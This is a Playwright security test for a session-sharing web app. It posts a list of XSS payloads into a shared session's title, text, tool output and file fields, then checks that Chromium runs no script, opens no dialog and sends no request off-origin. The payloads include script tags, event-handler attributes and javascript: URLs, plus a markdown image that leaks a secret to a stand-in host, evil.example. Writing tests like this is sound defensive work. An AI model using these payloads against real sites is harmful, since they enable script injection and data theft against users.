// An XSS corpus shared through the API and opened in Chromium: no script runs, no dialog opens, no
// request leaves the origin.
import { expect, test } from "@playwright/test";

const PAYLOADS = [
  `<script>window.__pwned=1;alert(1)</script>`,
  `<img src=x onerror="window.__pwned=1;alert(1)">`,
  `<svg onload="window.__pwned=1"><script>alert(1)</script></svg>`,
  `[click me](javascript:window.__pwned=1)`,
  `[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![exfil](https://evil.example/collect?secret=hunter2)`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<a href="javascript:alert(1)">x</a> <form action="https://evil.example"><button>go</button></form>`,
  `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">`,
  `<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import url(https://evil.example/s.css); body{background:url(https://evil.example/bg)}</style>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  "```html\n<script>alert(1)</script>\n```",
  `[ref]: javascript:alert(1)\n\n[x][ref] <details open ontoggle="window.__pwned=1">`,
];

test("an XSS corpus in every field runs no script, opens no dialog and sends nothing to another origin", async ({ baseURL, page }) => {
  const created = await (
    await fetch(`${baseURL}/api/share`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ sessionID: "ses_xss" }) })
  ).json();
  const body = PAYLOADS.join("\n\n");
  const base = { sessionID: "ses_xss", messageID: "msg_1" };
  const data = [
    { type: "session", data: { id: "ses_xss", title: `<script>window.__pwned=1</script><img src=x onerror=alert(1)>`, time: { created: 1, updated: 2 } } },
    { type: "message", data: { id: "msg_1", sessionID: "ses_xss", role: "assistant", time: { created: 3 } } },
    ...PAYLOADS.map((p, i) => ({ type: "part", data: { ...base, id: `prt_t${String(i).padStart(2, "0")}`, type: "text", text: p } })),
    { type: "part", data: { ...base, id: "prt_r", type: "reasoning", text: body } },
    {
      type: "part",
      data: {
        ...base,
        id: "prt_x",
        type: "tool",
        callID: "c1",
        tool: "bash",
        state: { status: "completed", input: { command: `echo '<img src=x onerror=alert(1)>'` }, output: body, title: `<svg onload=alert(1)>` },
      },
    },
    {
      type: "part",
      data: { ...base, id: "prt_y", type: "tool", callID: "c2", tool: "<script>alert(1)</script>", state: { status: "error", input: {}, error: body } },
    },
    {
      type: "part",
      data: {
        ...base,
        id: "prt_f",
        type: "file",
        mime: "image/svg+xml",
        filename: `"><img src=x onerror=alert(1)>.svg`,
        url: `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`).toString("base64")}`,
      },
    },
    {
      type: "part",
      data: { ...base, id: "prt_g", type: "file", mime: "text/html", filename: "<b onmouseover=alert(1)>x</b>.html", url: "javascript:alert(1)" },
    },
    { type: "part", data: { ...base, id: "prt_h", type: "file", mime: "image/png", filename: "remote.png", url: "https://evil.example/track.png" } },
  ];
  const synced = await fetch(`${baseURL}/api/share/${created.id}/sync`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ secret: created.secret, data }),
  });
  expect(synced.status).toBe(200);

  const dialogs: string[] = [];
  const foreign: string[] = [];
  page.on("dialog", async (d) => {
    dialogs.push(d.message());
    await d.dismiss();
  });
  page.on("request", (r) => {
    const url = new URL(r.url());
    if (!["data:", "blob:"].includes(url.protocol) && url.origin !== new URL(baseURL!).origin) foreign.push(r.url());
  });
  await page.goto(`/s/${created.id}`);
  await page.waitForLoadState("networkidle");
  // Hover and click what could carry handlers or links; nothing may navigate away or run.
  for (const link of await page.locator("a[href]").all()) {
    const href = (await link.getAttribute("href")) ?? "";
    expect(href, "only http(s), mailto, relative or fragment links").toMatch(/^(https?:|mailto:|\/|#|$)/);
    if (/^https?:/.test(href) && !href.startsWith(baseURL!)) expect(await link.getAttribute("rel")).toContain("noreferrer");
  }
  await page.mouse.move(10, 10);
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);
  // The only script is the page's own inline one (allowed by its hash; e2e/privacy.spec.ts checks the hash).
  expect(await page.locator("script:not(:empty)").count()).toBe(1);
  expect(await page.locator("script[src]").count()).toBe(0);
  expect(await page.locator("iframe, object, embed, base, form[action^='http']").count()).toBe(0);
});
